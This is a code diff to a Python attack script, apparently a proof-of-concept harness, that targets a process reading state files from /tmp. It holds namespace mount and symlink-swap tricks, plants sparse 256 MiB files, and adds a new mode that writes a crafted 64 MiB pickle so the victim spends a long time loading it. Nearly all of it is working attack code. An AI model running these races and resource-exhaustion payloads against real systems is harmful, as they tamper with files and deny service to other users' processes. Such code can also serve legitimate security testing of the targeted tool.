@@ -7,6 +7,7 @@ mount VICTIM       in a namespace of its own: mounts VICTIM over the folder that
 swap VICTIM OWN    in a namespace of its own, where OWN is /tmp: puts a link to VICTIM in the place of the folder
 link VICTIM OWN    in a namespace of its own, where OWN is /: /tmp is a link to VICTIM
 answer             answers with files that are long and empty
+long               answers with a snapshot that takes long to read
 map FILE           has FILE mapped before its interpreter
 """
 
@@ -21,6 +22,7 @@ RENAME_EXCHANGE = 2
 AT_FDCWD = -100
 PREFIX = "whyoom-attach-"
 HOLE = 256 << 20
+LONG = 64 << 20
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -68,12 +70,23 @@ def change_root(victim, own):
     os.chdir("/")
 
 
-def answer():
+def answer_holes(folder):
+    for name in ("snapshot.pickle", "keepers.json"):
+        os.truncate(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_CREAT, 0o600), HOLE)
+
+
+def answer_long(folder):
+    """A list of 64 Mi small numbers, less what the pickle's other opcodes need."""
+    start, end = b"\x80\x02](", b"e."
+    with open(folder + "/snapshot.pickle", "wb") as file:
+        file.write(start + b"K\x01" * ((LONG - len(start) - len(end)) // 2) + end)
+
+
+def answer(how):
     for folder in visits(set(os.listdir("/tmp"))):
         time.sleep(0.1)
         os.mkdir(folder + "/begun")
-        for name in ("snapshot.pickle", "keepers.json"):
-            os.truncate(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_CREAT, 0o600), HOLE)
+        how(folder)
         text = '{"python": "3.11", "torch": "2.15", "state": "looked", "history": "off"}'
         with open(folder + "/part", "w") as file:
             file.write(text)
@@ -100,7 +113,9 @@ def main():
     elif how == "link":
         change_root(*words)
     elif how == "answer":
-        attack = (answer, [])
+        attack = (answer, [answer_holes])
+    elif how == "long":
+        attack = (answer, [answer_long])
     elif how == "map":
         map_low(*words)
     if attack:
